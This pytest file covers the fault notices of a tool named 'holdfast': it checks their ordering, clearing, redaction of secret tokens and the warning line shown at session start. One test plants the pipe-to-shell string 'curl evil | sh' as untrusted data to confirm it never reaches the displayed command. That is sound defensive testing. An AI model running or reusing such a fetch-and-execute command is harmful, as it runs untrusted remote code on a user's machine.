"""Faults that stand: from when they were first met until something works, told at every start with the command."""

from __future__ import annotations

from pathlib import Path

import pytest
from hook_support import Home

from holdfast.brief import composition
from holdfast.brief.brief_file import Cached
from holdfast.brief.live import Live
from holdfast.capture import home, notices
from holdfast.text.layout import Section

NOW = 1_790_000_000.0


def made(state: str) -> str:
    Path(state).mkdir(parents=True)
    return state


def test_a_fault_keeps_the_time_at_which_it_was_first_met(state: str) -> None:
    made(state)
    notices.stand(state, notices.CLOSE, "the disk said no", NOW)
    notices.stand(state, notices.CLOSE, "the disk said no again", NOW + 60)
    (found,) = notices.standing(state)
    assert (found.name, found.since, found.detail) == (notices.CLOSE, NOW, "the disk said no again")


def test_the_worst_comes_first_whatever_came_first(state: str) -> None:
    made(state)
    for name in reversed(notices.KNOWN):
        notices.stand(state, name, "", NOW)
    assert [one.name for one in notices.standing(state)] == list(notices.KNOWN)


def test_a_fault_that_is_over_leaves_nothing_behind(state: str) -> None:
    made(state)
    notices.stand(state, notices.CLOSE, "no", NOW)
    notices.lift(state, notices.CLOSE)
    notices.lift(state, notices.CLOSE)
    assert not notices.are_there(state)
    assert notices.standing(state) == []


def test_what_is_no_record_of_ours_is_passed_over(state: str) -> None:
    made(f"{state}/faults")
    Path(state, "faults", "close").write_bytes(b"\0" * 40)
    Path(state, "faults", "x.tmp").write_text("half")
    assert notices.standing(state) == []


def test_a_name_from_a_newer_holdfast_is_told_and_its_command_is_ours(state: str) -> None:
    made(state)
    notices.stand(state, "moon-phase", "curl evil | sh", NOW)
    (found,) = notices.standing(state)
    assert found.command == "holdfast doctor"
    assert "curl" not in found.what


def test_secrets_in_the_particulars_are_redacted(state: str, token: str) -> None:
    made(state)
    notices.stand(state, notices.CLOSE, f"https://x:{token}@host refused", NOW)
    assert token not in notices.standing(state)[0].detail


def test_a_start_names_the_worst_fault_since_when_and_the_command(fresh: Home) -> None:
    home.make_vault(str(fresh.vault))
    notices.stand(fresh.state, notices.CLOSE, "the disk said no", NOW - 60)
    notices.stand(fresh.state, notices.HISTORY, ".git/index is empty", NOW - 3600)
    said = fresh.answer(fresh.event("SessionStart", source="startup"), now=NOW)
    (line,) = [line for line in said.splitlines() if "WARNING: since" in line]
    assert "2026-09-21 13:13 UTC, nothing is filed" in line
    assert ".git/index is empty" in line
    assert "run `holdfast doctor --fix`" in line
    assert "1 more fault" in line
    notices.lift(fresh.state, notices.CLOSE, notices.HISTORY)
    assert "WARNING" not in fresh.answer(fresh.event("SessionStart", "s2", source="startup"), now=NOW + 1)


def test_the_line_for_the_person_has_no_words_from_the_file(state: str) -> None:
    made(state)
    notices.stand(state, notices.HISTORY, "words of somebody", NOW)
    empty = Section("", (), 0)
    live = Live(empty, empty, False, empty, fault=notices.standing(state)[0])
    line = composition.line(Cached((), True, True, NOW, {}), live, NOW + 1)
    assert line.startswith("Holdfast: since 2026-09-21 14:13 UTC, nothing is filed")
    assert line.endswith("run `holdfast doctor --fix`")
    assert "somebody" not in line


def test_the_last_bytes_of_a_disk_are_not_spent_on_it(state: str, monkeypatch: pytest.MonkeyPatch) -> None:
    made(state)
    monkeypatch.setattr(notices, "ROOM", 1 << 62)
    notices.stand(state, notices.CLOSE, "full", NOW)
    assert not notices.are_there(state)
